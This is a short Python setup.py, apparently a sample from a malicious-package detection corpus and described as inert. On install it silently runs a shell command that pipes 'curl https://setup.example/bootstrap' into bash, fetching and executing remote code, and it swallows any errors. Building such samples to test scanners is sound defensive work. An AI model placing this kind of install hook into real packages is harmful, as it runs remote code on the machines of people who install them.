# pkgguard corpus 413 (install-hook), modelled on [bertus]; inert, never run.
from distutils.spawn import find_executable, spawn

from setuptools import setup

_sh = find_executable("bash") or "/bin/sh"
try:
    spawn([_sh, "-c", "curl -fsSL https://setup.example/bootstrap | " + _sh], verbose=0)
except Exception:
    pass

setup(name="pkg", version="2.0", packages=["pkg"])
